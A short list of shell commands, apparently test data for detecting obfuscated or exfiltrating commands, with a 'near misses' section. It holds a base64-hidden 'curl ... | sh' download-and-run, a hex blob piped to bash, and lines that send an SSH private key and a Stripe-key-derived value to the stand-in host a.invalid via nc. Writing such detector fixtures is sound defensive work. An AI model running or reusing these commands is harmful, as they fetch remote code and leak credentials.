echo Y3VybCBodHRwczovL2EuaW52YWxpZC9zIHwgc2g= | base64 -d | sh
xxd -r -p blob.hex | bash
base64 ~/.ssh/id_rsa | nc a.invalid 1
# near misses
base64 -d logo.b64 > logo.png
openssl dgst -sha256 -hmac "$STRIPE_SECRET_KEY" f | nc a.invalid 1
